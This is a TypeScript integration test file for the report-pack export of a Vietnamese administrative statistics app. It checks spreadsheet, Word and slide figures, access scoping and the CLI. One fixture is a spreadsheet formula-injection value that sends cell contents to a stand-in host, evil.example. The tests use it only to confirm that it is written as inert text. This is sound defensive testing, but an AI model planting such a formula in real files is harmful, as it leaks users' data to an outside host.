import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { sql } from 'kysely';
import type ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ChildrenBreakdown, Distribution, Overview, QuotaFulfilment, Trends } from '../../src/analytics/analytics.types.js';
import { Database } from '../../src/db/database.js';
import { runExportCli } from '../../src/export/export.cli.js';
import { SeedService } from '../../src/ingest/seed.service.js';
import type { PlanView } from '../../src/plans/plan.types.js';
import { startAuthApp, type AuthTestApp } from '../auth/support.js';
import { U } from '../fixtures/province.js';
import { SAMPLE_FILES } from '../ingest/support.js';
import { get, post, startWithFixture } from '../plans/support.js';
import { startTestApp, type TestApp } from '../support/test-app.js';
import { badUnicode, docxParagraphs, openWorkbook, pngStats, pptxSlides, rowWhere, sheetTexts, unzip } from './read-pack.js';

/*
 * The pack through real HTTP on the real app, every file opened again and
 * its numbers checked against the analytics API for the same unit and year.
 */

const FILES = {
  registrations: 'bang-bieu/01-tong-hop-dang-ky-mo-hinh.xlsx',
  recognitions: 'bang-bieu/02-danh-sach-mo-hinh-duoc-cong-nhan.xlsx',
  exemplars: 'bang-bieu/03-danh-sach-dien-hinh.xlsx',
  quotas: 'bang-bieu/04-ket-qua-thuc-hien-chi-tieu.xlsx',
  submissions: 'bang-bieu/05-tinh-hinh-gui-bao-cao.xlsx',
  report: 'bao-cao-ket-qua-dan-van-kheo.docx',
  slides: 'trinh-chieu-hoi-nghi-tong-ket.pptx',
};

async function download(t: { fetch: (path: string) => Promise<Response> }, query: string): Promise<{ response: Response; files: Map<string, Buffer> }> {
  const response = await t.fetch(`/api/export?${query}`);
  const files = response.status === 200 ? await unzip(Buffer.from(await response.arrayBuffer())) : new Map<string, Buffer>();
  return { response, files };
}

/** Header text → column number, read from the row above the numbering row "(1) (2) …". */
function columns(sheet: ExcelJS.Worksheet): Map<string, number> {
  const numbering = rowWhere(sheet, 1, '(1)');
  if (!numbering) throw new Error('no numbering row');
  const header = sheet.getRow(numbering.number - 1);
  const out = new Map<string, number>();
  header.eachCell({ includeEmpty: false }, (cell, col) => out.set(String(cell.value), col));
  return out;
}

const HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")';
const two = (n: number): string => String(n).padStart(2, '0');
const FIELD_HEADERS: Record<string, string> = {
  economy: 'Kinh tế', culture_society: 'Văn hóa - xã hội', defense_security: 'Quốc phòng - an ninh, dân tộc - tôn giáo', political_system: 'Xây dựng hệ thống chính trị',
};

/** Everything readable in the pack, for the Unicode checks. */
async function allTexts(files: Map<string, Buffer>): Promise<string[]> {
  const texts: string[] = [];
  for (const [name, bytes] of files) {
    if (name.endsWith('.xlsx')) texts.push(...sheetTexts(await openWorkbook(bytes)));
    if (name.endsWith('.docx')) texts.push(...await docxParagraphs(bytes));
    if (name.endsWith('.pptx')) texts.push(...(await pptxSlides(bytes)).map((s) => s.text));
    if (name.endsWith('.svg')) texts.push(bytes.toString('utf8'));
  }
  return texts;
}

describe('GET /api/export on the fixture province (hand-counted)', () => {
  let t: TestApp;
  let files: Map<string, Buffer>;
  let response: Response;

  beforeAll(async () => {
    ({ t } = await startWithFixture());
    const plan = await post<PlanView>(t, '/api/plans', {
      code: 'province-2026', year: 2026, title: 'Kế hoạch tỉnh 2026', issuerUnitId: U.province,
      deadlines: [{ kind: 'registration', label: 'Đăng ký mô hình', text: '10/02/2026', document: 'registration', submitters: { type: 'children', kinds: ['commune'] } }],
      rules: [
        { code: 'commune_models', description: 'Mỗi xã ít nhất 01 mô hình', shape: 'model_count', params: { target: { type: 'children', kinds: ['commune'] }, min: 1 } },
        { code: 'recognition_rate', description: 'Công nhận từ 50% số mô hình đăng ký', shape: 'recognition_rate', params: { target: { type: 'children', kinds: ['commune'] }, minPercent: 50 } },
      ],
    });
    expect(plan.status).toBe(201);
    // A hostile cell as a unit might send it: it must reach the spreadsheet as text.
    await t.app.get(Database).db.updateTable('recognition').set({ model_name: HOSTILE })
      .where('model_name', '=', 'Mô hình AB4').where('year', '=', 2026).execute();
    ({ response, files } = await download(t, `unit=${U.province}&year=2026&fromYear=2023`));
  }, 180_000);
  afterAll(async () => {
    await t.close();
  });

  it('answers a ZIP download named in ASCII', () => {
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('application/zip');
    expect(response.headers.get('content-disposition')).toContain('attachment; filename="dan-van-kheo-2023-2026-tinh-kiem-thu.zip"');
    expect([...files.keys()]).toEqual(expect.arrayContaining(Object.values(FILES)));
  });

  it('prints per child unit the figures of /api/analytics/children and /api/analytics/distribution, totals equal to the overview', async () => {
    const children = (await get<ChildrenBreakdown>(t, `/api/analytics/children?unit=${U.province}&year=2026`)).body;
    const overview = (await get<Overview>(t, `/api/analytics/overview?unit=${U.province}&year=2026`)).body;
    const sheet = await openWorkbook(files.get(FILES.registrations)!);
    expect(sheet.getCell('A1').value).toBe('TỈNH ỦY KIỂM THỬ');
    const col = columns(sheet);
    expect(children.rows.map((r) => r.unitName)).toEqual(['Xã An Bình', 'Xã Đồng Tâm']);
    for (const child of children.rows) {
      const row = rowWhere(sheet, col.get('Đơn vị')!, child.unitName);
      expect(row, child.unitName).toBeDefined();
      const at = (header: string) => row!.getCell(col.get(header)!).value;
      expect([at('Tổng số mô hình đăng ký'), at('Mới'), at('Duy trì'), at('Nhân rộng'), at('Mô hình được công nhận'), at('Điển hình được công nhận')])
        .toEqual([child.registered, child.new, child.continued, child.replicated, child.recognized, child.exemplars]);
      const dist = (await get<Distribution>(t, `/api/analytics/distribution?unit=${child.unitId}&year=2026`)).body;
      for (const [code, header] of Object.entries(FIELD_HEADERS)) {
        expect(at(header), `${child.unitName} ${code}`).toBe(dist.rows.find((r) => r.dimension === 'field' && r.key === code)?.models ?? 0);
      }
    }
    // Hand count: An Bình 5 (2 new, 2 continued, 1 replicated; 3 recognised; 5 exemplars), Đồng Tâm 1.
    const totals = rowWhere(sheet, 2, 'Tổng cộng')!;
    expect(totals.getCell(col.get('Tổng số mô hình đăng ký')!).value).toBe(overview.kpis.registered);
    expect(overview.kpis.registered).toBe(6);
    expect(totals.getCell(col.get('Mô hình được công nhận')!).value).toBe(overview.kpis.recognized.total);
    expect(totals.getCell(col.get('Điển hình được công nhận')!).value).toBe(overview.kpis.exemplars.total);
  });

  it('fills the report draft\'s sentences with the overview\'s figures', async () => {
    const k = (await get<Overview>(t, `/api/analytics/overview?unit=${U.province}&year=2026`)).body.kpis;
    const trends = (await get<Trends>(t, `/api/analytics/trends?unit=${U.province}&from=2023&to=2026`)).body;
    const paragraphs = await docxParagraphs(files.get(FILES.report)!);
    const text = paragraphs.join('\n');
    expect(paragraphs).toEqual(expect.arrayContaining(['TỈNH ỦY KIỂM THỬ', 'ĐẢNG CỘNG SẢN VIỆT NAM', 'BÁO CÁO', 'I. KẾT QUẢ THỰC HIỆN', 'II. PHƯƠNG HƯỚNG, NHIỆM VỤ NĂM 2027', 'Nơi nhận:']));
    expect(text).toContain(`Toàn Đảng bộ đăng ký xây dựng ${two(k.registered)} mô hình “Dân vận khéo” (${two(k.new)} mô hình mới, ${two(k.continued)} mô hình duy trì, ${two(k.replicated)} mô hình nhân rộng).`);
    expect(text).toContain(`Đã công nhận ${two(k.recognized.total)} mô hình “Dân vận khéo” (${two(k.recognized.province)} mô hình cấp tỉnh, ${two(k.recognized.commune)} mô hình cấp xã), đạt 50% số mô hình đăng ký.`);
    expect(text).toContain(`Công nhận ${two(k.exemplars.total)} điển hình “Dân vận khéo” (${two(k.exemplars.collective)} tập thể, ${two(k.exemplars.individual)} cá nhân).`);
    const [prev, last] = trends.rows.slice(-2);
    expect(text).toContain(`So với năm ${prev!.year}: số mô hình đăng ký ${last!.registered > prev!.registered ? 'tăng' : 'giảm'} ${Math.abs(last!.registered - prev!.registered)} (${prev!.registered} → ${last!.registered})`);
    const media = [...(await unzip(files.get(FILES.report)!)).keys()].filter((k) => k.startsWith('word/media/'));
    expect(media.length).toBe([...files.keys()].filter((k) => k.endsWith('.png')).length);
  });

  it('lists every quota rule of /api/analytics/quota-fulfilment with its status, and the submissions per deadline', async () => {
    const fulfilment = (await get<QuotaFulfilment>(t, `/api/analytics/quota-fulfilment?unit=${U.province}&year=2026`)).body;
    const sheet = await openWorkbook(files.get(FILES.quotas)!);
    const numbering = rowWhere(sheet, 1, '(1)')!;
    const rows: [unknown, unknown, unknown][] = [];
    for (let r = numbering.number + 1; r <= sheet.rowCount; r++) {
      const row = sheet.getRow(r);
      if (typeof row.getCell(1).value === 'number') rows.push([row.getCell(2).value, row.getCell(3).value, row.getCell(6).value]);
    }
    const word = { met: 'Đạt', not_met: 'Chưa đạt', no_data: 'Chưa đủ dữ liệu' };
    expect(rows).toEqual(fulfilment.rows.map((r) => [r.unitName, r.description, word[r.status]]));
    expect(rows.length).toBeGreaterThan(0);
    const met = fulfilment.rows.filter((r) => r.status === 'met').length;
    expect(rowWhere(sheet, 2, `Tổng cộng: đạt ${met}/${fulfilment.rows.length} chỉ tiêu`)).toBeDefined();

    const submissions = await openWorkbook(files.get(FILES.submissions)!);
    expect(rowWhere(submissions, 2, 'Xã An Bình')?.getCell(3).value).toBe('Đăng ký mô hình');
  });

  it('has the overview\'s figures on a slide, one slide per chart, and a 1920 px PNG that is not blank', async () => {
    const pngs = [...files.keys()].filter((k) => k.endsWith('.png'));
    expect(pngs).toContain('bieu-do/07-xu-huong-qua-cac-nam.png');
    expect(pngs).toContain('bieu-do/04-thuc-hien-chi-tieu.png');
    const slides = await pptxSlides(files.get(FILES.slides)!);
    expect(slides).toHaveLength(2 + pngs.length);
    const k = (await get<Overview>(t, `/api/analytics/overview?unit=${U.province}&year=2026`)).body.kpis;
    expect(slides[1]!.text).toContain(`Toàn Đảng bộ đăng ký xây dựng ${two(k.registered)} mô hình “Dân vận khéo”`);
    expect(slides[1]!.text).toContain(`Công nhận ${two(k.exemplars.total)} điển hình “Dân vận khéo” (${two(k.exemplars.collective)} tập thể, ${two(k.exemplars.individual)} cá nhân).`);
    const png = pngStats(files.get('bieu-do/01-mo-hinh-theo-linh-vuc.png')!);
    expect(png.signature).toBe(true);
    expect(png.width).toBeGreaterThanOrEqual(1920);
    expect(png.variance).toBeGreaterThan(100);
  });

  it('writes a formula-looking name from the data as text, and no formula anywhere', async () => {
    const sheet = await openWorkbook(files.get(FILES.recognitions)!);
    const row = rowWhere(sheet, 2, HOSTILE);
    expect(row).toBeDefined();
    expect(row!.getCell(2).type).toBe(3); // ValueType.String
    expect(row!.getCell(2).numFmt).toBe('@');
    for (const name of [FILES.registrations, FILES.recognitions, FILES.exemplars, FILES.quotas, FILES.submissions]) {
      const xml = (await unzip(files.get(name)!)).get('xl/worksheets/sheet1.xml')!.toString('utf8');
      expect(xml, name).not.toContain('<f>');
    }
  });

  it('keeps Vietnamese text intact in every file (NFC, no mojibake)', async () => {
    const texts = await allTexts(files);
    expect(texts.join('\n')).toContain('Xã An Bình');
    expect(badUnicode(texts)).toEqual([]);
  });

  it('answers 400 in Vietnamese for a bad year, 404 for an unknown unit', async () => {
    const bad = await t.fetch(`/api/export?unit=${U.province}&year=19`);
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { message: string[] }).message).toContain('"year" nhỏ hơn giá trị tối thiểu');
    const unknown = await t.fetch(`/api/export?unit=99999&year=2026`);
    expect(unknown.status).toBe(404);
    const backwards = await t.fetch(`/api/export?unit=${U.province}&year=2025&fromYear=2026`);
    expect(backwards.status).toBe(400);
    expect(((await backwards.json()) as { message: string }).message).toBe('"fromYear" (2026) phải nhỏ hơn hoặc bằng năm tổng kết (2025)');
  });
});

describe('GET /api/export on the sample files loaded through the real ingest path', () => {
  let t: TestApp;
  let db: Database;
  let unitId: number;
  let year: number;
  let files: Map<string, Buffer>;

  beforeAll(async () => {
    t = await startTestApp();
    await t.app.get(SeedService).seedOnce(SAMPLE_FILES);
    db = t.app.get(Database);
    unitId = (await db.db.selectFrom('unit').select('id').where('name', '=', 'Tỉnh Hải Đông').executeTakeFirstOrThrow()).id;
    year = (await get<Overview>(t, `/api/analytics/overview?unit=${unitId}`)).body.year;
    ({ files } = await download(t, `unit=${unitId}&year=${year}`));
  }, 600_000);
  afterAll(async () => {
    await t.close();
  });

  it('shows the overview\'s figures for the province', async () => {
    const k = (await get<Overview>(t, `/api/analytics/overview?unit=${unitId}&year=${year}`)).body.kpis;
    expect(k.registered).toBeGreaterThan(0);
    const text = (await docxParagraphs(files.get(FILES.report)!)).join('\n');
    expect(text).toContain(`Toàn Đảng bộ đăng ký xây dựng ${two(k.registered)} mô hình “Dân vận khéo”`);
    const sheet = await openWorkbook(files.get(FILES.registrations)!);
    const col = columns(sheet);
    expect(rowWhere(sheet, 2, 'Tổng cộng')?.getCell(col.get('Tổng số mô hình đăng ký')!).value).toBe(k.registered);
    expect(badUnicode(await allTexts(files))).toEqual([]);
  });

  it('round trip: the exported recognition and exemplar lists read back by the ETL are the stored records', async () => {
    const { extract } = await import('@dvk/etl');
    const inScope = (alias: string) => sql<boolean>`coalesce(${sql.ref(`${alias}.owner_unit_id`)}, ${sql.ref(`${alias}.unit_id`)}) in (select descendant_id from unit_closure where ancestor_id = ${unitId})`;
    const storedRecognitions = await db.db.selectFrom('recognition as r').innerJoin('source_file as sf', 'sf.id', 'r.source_file_id')
      .where('sf.status', '=', 'loaded').where('r.year', '=', year).where('r.review_state', '<>', 'rejected').where(inScope('r'))
      .select(['r.model_name', 'r.owner', 'r.field', 'r.level', 'r.decision_no', 'r.decision_date']).execute();
    const storedExemplars = await db.db.selectFrom('exemplar as e').innerJoin('source_file as sf', 'sf.id', 'e.source_file_id')
      .where('sf.status', '=', 'loaded').where('e.year', '=', year).where('e.review_state', '<>', 'rejected').where(inScope('e'))
      .select(['e.name', 'e.exemplar_type', 'e.position', 'e.unit_text as unit', 'e.model_name', 'e.award', 'e.level']).execute();
    expect(storedRecognitions.length + storedExemplars.length).toBeGreaterThan(0);

    const sortKey = (o: object) => JSON.stringify(o);
    const recognitions = await extract(files.get(FILES.recognitions)!, 'danh-sach-cong-nhan.xlsx');
    expect(recognitions.records.map((r) => r.type === 'recognition'
      ? { model_name: r.model_name, owner: r.owner, field: r.field, level: r.level, decision_no: r.decision_no, decision_date: r.decision_date } : r)
      .map(sortKey).sort()).toEqual(storedRecognitions.map(sortKey).sort());
    const exemplars = await extract(files.get(FILES.exemplars)!, 'danh-sach-dien-hinh.xlsx');
    expect(exemplars.records.map((r) => r.type === 'exemplar'
      ? { name: r.name, exemplar_type: r.exemplar_type, position: r.position, unit: r.unit, model_name: r.model_name, award: r.award, level: r.level } : r)
      .map(sortKey).sort()).toEqual(storedExemplars.map(sortKey).sort());
  });
});

describe('GET /api/export is scoped to what the caller may see', () => {
  let a: AuthTestApp;
  beforeAll(async () => {
    a = await startAuthApp();
  }, 120_000);
  afterAll(async () => {
    await a.close();
  });

  it('refuses a unit outside the caller\'s subtree, exports the caller\'s own, and writes the audit log', async () => {
    await a.createUser('xa-a', 'viewer', a.units.communeA);
    const client = await a.as('xa-a');
    const outside = await client.fetch(`/api/export?unit=${a.units.communeB}&year=2026`);
    expect(outside.status).toBe(403);
    expect(((await outside.json()) as { message: string }).message).toContain('ngoài phạm vi');
    const own = await client.fetch('/api/export?year=2026');
    expect(own.status).toBe(200);
    const files = await unzip(Buffer.from(await own.arrayBuffer()));
    const report = (await docxParagraphs(files.get(FILES.report)!)).join('\n');
    expect(report).toContain('Toàn Đảng bộ đăng ký xây dựng 00 mô hình');
    // The refused request is not an export; the one that ran is in the audit log under the user's name.
    const audit = await a.db.db.selectFrom('audit_log').select(['action', 'username']).where('action', '=', 'export').execute();
    expect(audit).toEqual([{ action: 'export', username: 'xa-a' }]);
    expect((await a.anonymous().fetch(`/api/export?unit=${a.units.communeA}&year=2026`)).status).toBe(401);
  });
});

describe('the export CLI', () => {
  it('writes the same pack to a file from a stopped server\'s database, and explains bad arguments in Vietnamese', async () => {
    const { t } = await startWithFixture();
    const databasePath = t.config.databasePath;
    await t.app.close(); // the CLI needs the DuckDB file for itself (the fixture's units have no folded names: by id)
    const outDir = mkdtempSync(path.join(tmpdir(), 'dvk-export-cli-'));
    try {
      let said = '';
      const out = new Writable({ write(chunk, _enc, done) { said += String(chunk); done(); } });
      const target = path.join(outDir, 'goi.zip');
      expect(await runExportCli(["--unit", String(U.province), "--year", "2026", "--db", databasePath, "--out", target], out), said).toBe(0);
      expect(said).toContain(`Đã ghi ${target}`);
      const files = await unzip(readFileSync(target));
      const text = (await docxParagraphs(files.get(FILES.report)!)).join('\n');
      expect(text).toContain('Toàn Đảng bộ đăng ký xây dựng 06 mô hình “Dân vận khéo” (02 mô hình mới, 03 mô hình duy trì, 01 mô hình nhân rộng).');
      said = '';
      expect(await runExportCli(['--year', 'hai nghìn'], out)).toBe(2);
      expect(said).toContain('"year" phải là số nguyên');
      said = '';
      expect(await runExportCli(['--db', path.join(outDir, 'khong-co.duckdb')], out)).toBe(1);
      expect(said).toContain('Không có tệp cơ sở dữ liệu');
    } finally {
      rmSync(outDir, { recursive: true, force: true });
      rmSync(t.config.dataDir, { recursive: true, force: true });
    }
  }, 180_000);
});
